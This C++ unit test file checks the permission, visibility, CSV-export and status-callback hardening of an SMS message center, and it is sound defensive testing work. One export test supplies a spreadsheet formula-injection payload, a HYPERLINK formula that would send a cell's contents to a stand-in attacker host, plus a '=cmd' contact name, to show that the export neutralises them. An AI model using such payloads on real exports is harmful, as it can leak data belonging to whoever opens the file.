// Who may do what (issue 12, security review H1, H2, M3, M7, L4, L5), on the C++ API: every
// send of every kind by a staff member needs the staff member, `send_sms`, a number of their
// locations and a conversation they can see; consent operations need a right; contact
// history and the single-conversation export honour locations and access; exported text
// cannot start a formula; status callbacks touch only outbound messages, also when they
// arrive before the gateway's answer.
#include <gtest/gtest.h>

#include <chrono>
#include <future>
#include <mutex>
#include <thread>

#include "engine_fixture.hpp"
#include "msgcenter/core/csv.hpp"

namespace msgcenter::testing {
namespace {

constexpr const char* kUptown = "+12025550101";
constexpr const char* kNewPhone = "+12025550177";

/// The fixture's business (downtown number, ana with every right, ben view + send) plus an
/// uptown number, sam (view + send, uptown only), a viewer without send_sms, and a contact
/// emma with the fixture's client phone.
class Security : public EngineTest {
 protected:
  void SetUp() override {
    EngineTest::SetUp();
    ASSERT_TRUE(mc->number_put(admin(), {kUptown, "uptown"}).ok());
    ASSERT_TRUE(
        mc->staff_put(
              admin(),
              {"sam", "Sam", bit(right::view_messages) | bit(right::send_sms), {"uptown"}, false})
            .ok());
    put_staff("viewer", bit(right::view_messages));
    contact emma;
    emma.id = "emma";
    emma.first_name = "Emma";
    emma.phones = {kClient};
    ASSERT_TRUE(mc->contact_put(admin(), {emma}).ok());
  }

  static send_request by_phone(const std::string& phone, message_kind kind,
                               const std::string& number = "") {
    send_request s;
    s.phone = phone;
    s.number = number;
    s.body = "hi";
    s.kind = kind;
    return s;
  }
  static send_request into(conversation_id c, message_kind kind) {
    send_request s;
    s.conversation = c;
    s.body = "hi";
    s.kind = kind;
    return s;
  }

  /// Every message of the business, as ana (who sees everything) exports it.
  std::string everything() {
    auto csv = mc->export_csv(as("ana"), {});
    EXPECT_TRUE(csv.ok());
    return csv.ok() ? csv->csv : "";
  }

  static constexpr message_kind kKinds[] = {message_kind::manual, message_kind::campaign,
                                            message_kind::notification};
};

// ---- H1: sends ---------------------------------------------------------------------------

TEST_F(Security, SendOfAnyKindByStaff_WithoutSendSms_IsPermissionDenied_AndStoresNothing) {
  for (auto kind : kKinds) {
    auto r = mc->send(as("viewer"), by_phone(kNewPhone, kind));
    ASSERT_FALSE(r.ok()) << to_string(kind);
    EXPECT_EQ(r.error().code, errc::permission_denied) << to_string(kind);
  }
  EXPECT_TRUE(gateway_->sent().empty());
  EXPECT_TRUE(mc->inbox_list(as("ana"), inbox_query{})->rows.empty());
}

TEST_F(Security, SendOfAnyKind_ByAStaffIdThatDoesNotExist_IsPermissionDenied) {
  for (auto kind : kKinds) {
    auto r = mc->send(as("ghost"), by_phone(kNewPhone, kind));
    ASSERT_FALSE(r.ok()) << to_string(kind);
    EXPECT_EQ(r.error().code, errc::permission_denied) << to_string(kind);
  }
  EXPECT_TRUE(gateway_->sent().empty());
}

TEST_F(Security, SendOfAnyKind_IntoAConversationTheSenderCannotSee_IsNotFound) {
  auto in = receive("downtown only");  // sam may use only uptown
  for (auto kind : kKinds) {
    auto r = mc->send(as("sam"), into(in.conversation, kind));
    ASSERT_FALSE(r.ok()) << to_string(kind);
    EXPECT_EQ(r.error().code, errc::not_found) << to_string(kind);
  }
  EXPECT_TRUE(gateway_->sent().empty());
  auto msgs = mc->conversation_messages(as("ana"), {in.conversation, std::nullopt, 50, false});
  ASSERT_TRUE(msgs.ok());
  EXPECT_EQ(msgs->messages.size(), 1u) << "nothing was written into it";
}

TEST_F(Security, SendByPhoneOrContact_FromANumberOfAnotherLocation_IsPermissionDenied) {
  // The business default is the downtown number; sam may use only uptown.
  for (auto kind : kKinds) {
    auto r = mc->send(as("sam"), by_phone(kNewPhone, kind));
    ASSERT_FALSE(r.ok()) << to_string(kind);
    EXPECT_EQ(r.error().code, errc::permission_denied) << to_string(kind);
    auto named = mc->send(as("sam"), by_phone(kNewPhone, kind, kNumber));
    ASSERT_FALSE(named.ok());
    EXPECT_EQ(named.error().code, errc::permission_denied);
    send_request to_contact;
    to_contact.contact = "emma";
    to_contact.body = "hi";
    to_contact.kind = kind;
    auto c = mc->send(as("sam"), to_contact);
    ASSERT_FALSE(c.ok());
    EXPECT_EQ(c.error().code, errc::permission_denied);
  }
  EXPECT_TRUE(gateway_->sent().empty());
  EXPECT_EQ(everything().find("\r\n"), everything().size() - 2) << "only the header row";
  // From a number of their own location it goes out.
  auto ok = mc->send(as("sam"), by_phone(kNewPhone, message_kind::manual, kUptown));
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  EXPECT_EQ(gateway_->sent().size(), 1u);
}

TEST_F(Security, SendByPhoneOrContact_IntoAnExistingConversationTheSenderCannotSee_IsNotFound) {
  // In `assigned` visibility ben (no manage_messages) sees only what he owns.
  business_put_request r{"Lotus Spa", "US", "", {}};
  r.settings.visibility = visibility_mode::assigned;
  ASSERT_TRUE(mc->business_put(admin(), r).ok());
  auto in = receive("hello");  // emma's conversation on the downtown number, owned by nobody
  for (auto kind : kKinds) {
    auto phone = mc->send(as("ben"), by_phone(kClient, kind));
    ASSERT_FALSE(phone.ok()) << to_string(kind);
    EXPECT_EQ(phone.error().code, errc::not_found) << to_string(kind);
    send_request to_contact;
    to_contact.contact = "emma";
    to_contact.body = "hi";
    to_contact.kind = kind;
    auto c = mc->send(as("ben"), to_contact);
    ASSERT_FALSE(c.ok());
    EXPECT_EQ(c.error().code, errc::not_found);
  }
  EXPECT_TRUE(gateway_->sent().empty());
  auto msgs = mc->conversation_messages(as("ana"), {in.conversation, std::nullopt, 50, false});
  EXPECT_EQ(msgs->messages.size(), 1u);
  // A phone with no conversation yet: ben may start one.
  EXPECT_TRUE(mc->send(as("ben"), by_phone(kNewPhone, message_kind::manual)).ok());
}

TEST_F(Security, Automation_WithoutStaff_SendsCampaignAndNotification_ButNotManual) {
  auto in = receive("hello");
  EXPECT_TRUE(mc->send(admin(), by_phone(kNewPhone, message_kind::campaign)).ok());
  EXPECT_TRUE(mc->send(admin(), into(in.conversation, message_kind::notification)).ok());
  send_request to_contact;
  to_contact.contact = "emma";
  to_contact.body = "reminder";
  to_contact.kind = message_kind::notification;
  to_contact.number = kUptown;
  EXPECT_TRUE(mc->send(admin(), to_contact).ok());
  auto manual = mc->send(admin(), by_phone(kNewPhone, message_kind::manual));
  ASSERT_FALSE(manual.ok());
  EXPECT_EQ(manual.error().code, errc::permission_denied);
  EXPECT_EQ(gateway_->sent().size(), 3u);
}

// ---- H2: consent -------------------------------------------------------------------------

TEST_F(Security, ConsentRequest_NeedsAnExistingStaffMemberWithSendSms) {
  for (const char* who : {"ghost", "viewer"}) {
    auto r = mc->consent_request(as(who), {kNewPhone, ""});
    ASSERT_FALSE(r.ok()) << who;
    EXPECT_EQ(r.error().code, errc::permission_denied) << who;
  }
  EXPECT_TRUE(gateway_->sent().empty()) << "no opt-in request text went out";
  EXPECT_EQ(mc->consent_get(admin(), {kNewPhone, ""})->state, consent_state::unknown);
  auto ok = mc->consent_request(as("ben"), {kNewPhone, ""});
  ASSERT_TRUE(ok.ok()) << ok.error().message;
  EXPECT_EQ(ok->state, consent_state::pending);
}

TEST_F(Security, ConsentGet_NeedsAnExistingStaffMemberWithViewMessages) {
  put_staff("exporter", bit(right::export_));
  for (const char* who : {"ghost", "exporter"}) {
    auto r = mc->consent_get(as(who), {kClient, ""});
    ASSERT_FALSE(r.ok()) << who;
    EXPECT_EQ(r.error().code, errc::permission_denied) << who;
  }
  EXPECT_TRUE(mc->consent_get(as("viewer"), {kClient, ""}).ok());
}

TEST_F(Security, Consent_OnANumberOfAnotherLocation_IsPermissionDenied) {
  auto req = mc->consent_request(as("sam"), {kNewPhone, ""});  // default number: downtown
  ASSERT_FALSE(req.ok());
  EXPECT_EQ(req.error().code, errc::permission_denied);
  auto get = mc->consent_get(as("sam"), {kNewPhone, kNumber});
  ASSERT_FALSE(get.ok());
  EXPECT_EQ(get.error().code, errc::permission_denied);
  EXPECT_TRUE(gateway_->sent().empty());
  EXPECT_TRUE(mc->consent_request(as("sam"), {kNewPhone, kUptown}).ok());
  EXPECT_TRUE(mc->consent_get(as("sam"), {kNewPhone, kUptown}).ok());
}

TEST_F(Security, Consent_WithoutStaff_KeepsWorking) {
  auto r = mc->consent_request(admin(), {kNewPhone, ""});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->state, consent_state::pending);
  EXPECT_EQ(mc->consent_get(admin(), {kNewPhone, ""})->state, consent_state::pending);
}

// ---- M3: contact history and single-conversation export ----------------------------------

TEST_F(Security, ContactHistory_LeavesOutConversationsOnNumbersOfOtherLocations) {
  receive("to downtown");
  ASSERT_TRUE(mc->inbound(admin(), {kClient, kUptown, "to uptown", {}, "", std::nullopt}).ok());
  auto sam = mc->contact_history(as("sam"), {"emma", 50, std::nullopt});
  ASSERT_TRUE(sam.ok());
  ASSERT_EQ(sam->messages.size(), 1u);
  EXPECT_EQ(sam->messages[0].body, "to uptown");
  EXPECT_EQ(mc->contact_history(as("ana"), {"emma", 50, std::nullopt})->messages.size(), 2u);
}

TEST_F(Security, ContactHistory_InAssignedVisibility_StillShowsConversationsNotOwned) {
  // spec: "Contact history stays readable to everyone with view_messages".
  business_put_request r{"Lotus Spa", "US", "", {}};
  r.settings.visibility = visibility_mode::assigned;
  ASSERT_TRUE(mc->business_put(admin(), r).ok());
  receive("hello");
  EXPECT_TRUE(mc->inbox_list(as("ben"), inbox_query{})->rows.empty()) << "not in his inbox";
  EXPECT_EQ(mc->contact_history(as("ben"), {"emma", 50, std::nullopt})->messages.size(), 1u);
}

TEST_F(Security, SingleConversationExport_OfAConversationTheStaffMemberCannotSee_IsNotFound) {
  ASSERT_TRUE(mc->staff_put(admin(), {"auditor",
                                      "Auditor",
                                      bit(right::view_messages) | bit(right::export_),
                                      {"uptown"},
                                      false})
                  .ok());
  auto in = receive("downtown secret");
  auto r = mc->export_csv(as("auditor"), {in.conversation});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, errc::not_found);
  EXPECT_TRUE(mc->export_csv(as("ana"), {in.conversation}).ok());
}

// ---- M9: contact history in bounded pages ------------------------------------------------

TEST_F(Security, ContactHistory_InPages_GivesEveryMessageOnce_NewestFirst) {
  // Two conversations of one contact (two numbers), their messages interleaved in time.
  for (int i = 0; i < 7; ++i) {
    receive("downtown " + std::to_string(i));
    ASSERT_TRUE(mc->inbound(admin(),
                            {kClient, kUptown, "uptown " + std::to_string(i), {}, "", std::nullopt})
                    .ok());
  }
  auto whole = mc->contact_history(as("ana"), {"emma", 500, std::nullopt});
  ASSERT_TRUE(whole.ok());
  ASSERT_EQ(whole->messages.size(), 14u);
  EXPECT_FALSE(whole->next_before) << "everything fits: no further page";
  std::vector<message_id> paged;
  std::optional<message_id> before;
  int pages = 0;
  do {
    auto page = mc->contact_history(as("ana"), {"emma", 3, before});
    ASSERT_TRUE(page.ok()) << page.error().message;
    ASSERT_LE(page->messages.size(), 3u);
    for (auto& m : page->messages) paged.push_back(m.id);
    before = page->next_before;
    ASSERT_LT(++pages, 10);
  } while (before);
  std::vector<message_id> expected;
  for (auto& m : whole->messages) expected.push_back(m.id);
  EXPECT_EQ(paged, expected);
  EXPECT_EQ(pages, 5);  // 3+3+3+3+2
}

TEST_F(Security, ContactHistory_BeforeAMessageOutsideTheHistory_IsInvalidArgument) {
  receive("hello");
  auto r = mc->contact_history(as("ana"), {"emma", 10, message_id{987654}});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, errc::invalid_argument);
}

// ---- M7: formula-looking cells in the export ---------------------------------------------

TEST_F(Security, Export_FormulaLookingBodiesAndNames_AreNeutralized) {
  contact evil;
  evil.id = "evil";
  evil.first_name = "=cmd";
  evil.last_name = "x";
  evil.phones = {"+12025550150"};
  ASSERT_TRUE(mc->contact_put(admin(), {evil}).ok());
  receive("=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")", "+12025550150");
  receive("@SUM(1+1)");
  auto csv = everything();
  EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos) << csv;
  EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"open\"\")\""),
            std::string::npos)
      << csv;
  EXPECT_NE(csv.find(",'@SUM(1+1)\r\n"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'=cmd x,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",+12025550150,"), std::string::npos) << "phone columns stay E.164: " << csv;
}

// ---- L4, L5: status callbacks ------------------------------------------------------------

TEST_F(Security, StatusCallback_ForAnInboundMessage_IsNotFound_AndChangesNothing) {
  auto in = receive("hello", kClient, "SMinbound1");
  auto r = mc->status(admin(), {"SMinbound1", message_status::failed, "30003"});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, errc::not_found);
  auto msgs = mc->conversation_messages(as("ana"), {in.conversation, std::nullopt, 50, false});
  ASSERT_EQ(msgs->messages.size(), 1u);
  EXPECT_EQ(msgs->messages[0].status, message_status::received);
  EXPECT_TRUE(msgs->messages[0].error_code.empty());
  inbox_query failed;
  failed.types = type_failed;
  EXPECT_TRUE(mc->inbox_list(as("ana"), failed)->rows.empty());
}

/// A gateway that holds each hand-over until the test lets the carrier answer.
class held_gateway : public gateway {
 public:
  void submit(outbound_sms, accepted_fn on_accepted) override {
    std::lock_guard<std::mutex> g(mutex_);
    held_.push_back(std::move(on_accepted));
  }
  std::size_t held() const {
    std::lock_guard<std::mutex> g(mutex_);
    return held_.size();
  }
  /// Answers the oldest hand-over with `provider_id`.
  void answer(const std::string& provider_id) {
    accepted_fn fn;
    {
      std::lock_guard<std::mutex> g(mutex_);
      fn = std::move(held_.front());
      held_.erase(held_.begin());
    }
    fn(provider_id);
  }

 private:
  mutable std::mutex mutex_;
  std::vector<accepted_fn> held_;
};

template <class F>
bool eventually(F f) {
  for (int i = 0; i < 500; ++i) {
    if (f()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  return false;
}

class EarlyStatus : public ::testing::Test {
 protected:
  void SetUp() override {
    gw = std::make_shared<held_gateway>();
    options o;
    o.outbound = gw;
    mc = std::move(message_center::open(o).value());
    ASSERT_TRUE(mc->business_put(admin, {"Spa", "US", "", {}}).ok());
    ASSERT_TRUE(mc->number_put(admin, {"+12025550100", "downtown"}).ok());
    ASSERT_TRUE(mc->staff_put(admin, {"ana", "Ana", all_rights(), {}, false}).ok());
  }
  void TearDown() override {
    while (gw->held() > 0) gw->answer("SMlate" + std::to_string(gw->held()));
    mc->close();
  }
  send_request text(const std::string& body) {
    send_request s;
    s.phone = "+12025550142";
    s.body = body;
    return s;
  }
  op_context admin{"spa", "", std::nullopt};
  op_context ana{"spa", "ana", std::nullopt};
  std::shared_ptr<held_gateway> gw;
  std::unique_ptr<message_center> mc;
};

TEST_F(EarlyStatus, StatusCallbackBeforeTheGatewaysAnswer_IsAppliedWhenTheAnswerComes) {
  auto sent = mc->send_async(ana, text("hello"));
  ASSERT_TRUE(eventually([&] { return gw->held() == 1; }));
  // The carrier's status callback overtakes the answer of its REST API.
  auto early = std::async(std::launch::async, [&] {
    return mc->status(admin, {"SMfast", message_status::delivered, ""});
  });
  EXPECT_EQ(early.wait_for(std::chrono::milliseconds(200)), std::future_status::timeout)
      << "kept until the gateway answers";
  gw->answer("SMfast");
  auto s = sent.get();
  ASSERT_TRUE(s.ok()) << s.error().message;
  auto applied = early.get();
  ASSERT_TRUE(applied.ok()) << applied.error().message;
  EXPECT_EQ(applied->stored.status, message_status::delivered);
  EXPECT_EQ(applied->stored.provider_id, "SMfast");
  auto msgs = mc->conversation_messages(ana, {s->conversation, std::nullopt, 50, false});
  ASSERT_EQ(msgs->messages.size(), 1u);
  EXPECT_EQ(msgs->messages[0].status, message_status::delivered);
  EXPECT_EQ(msgs->messages[0].provider_id, "SMfast");
}

TEST_F(EarlyStatus, UnknownProviderId_IsNotFoundOnceNoHandOverItCouldBelongToIsPending) {
  auto sent = mc->send_async(ana, text("hello"));
  ASSERT_TRUE(eventually([&] { return gw->held() == 1; }));
  auto bogus = std::async(std::launch::async, [&] {
    return mc->status(admin, {"SMnobody", message_status::delivered, ""});
  });
  gw->answer("SMreal");
  ASSERT_TRUE(sent.get().ok());
  ASSERT_EQ(bogus.wait_for(std::chrono::seconds(10)), std::future_status::ready);
  auto r = bogus.get();
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, errc::not_found);
  // With nothing in flight an unknown id answers at once.
  auto idle = mc->status(admin, {"SMnobody", message_status::delivered, ""});
  EXPECT_EQ(idle.error().code, errc::not_found);
}

// client_ref (issue 13): a retry that arrives while the first send is still being handed
// over waits for it and gets the same message; only one hand-over happens.
TEST_F(EarlyStatus, ClientRefRetryDuringHandOver_WaitsAndAnswersTheSameMessage) {
  auto first_req = text("on my way");
  first_req.client_ref = "tab-1:draft-7";
  auto first = mc->send_async(ana, first_req);
  ASSERT_TRUE(eventually([&] { return gw->held() == 1; }));
  auto retry = mc->send_async(ana, first_req);
  EXPECT_EQ(retry.wait_for(std::chrono::milliseconds(200)), std::future_status::timeout);
  EXPECT_EQ(gw->held(), 1u);  // the retry was not handed over
  gw->answer("SMonce");
  auto a = first.get();
  auto b = retry.get();
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(a->stored.id, b->stored.id);
  EXPECT_EQ(b->stored.provider_id, "SMonce");
  auto msgs = mc->conversation_messages(ana, {a->conversation, std::nullopt, 50, false});
  EXPECT_EQ(msgs->messages.size(), 1u);
}

}  // namespace
}  // namespace msgcenter::testing
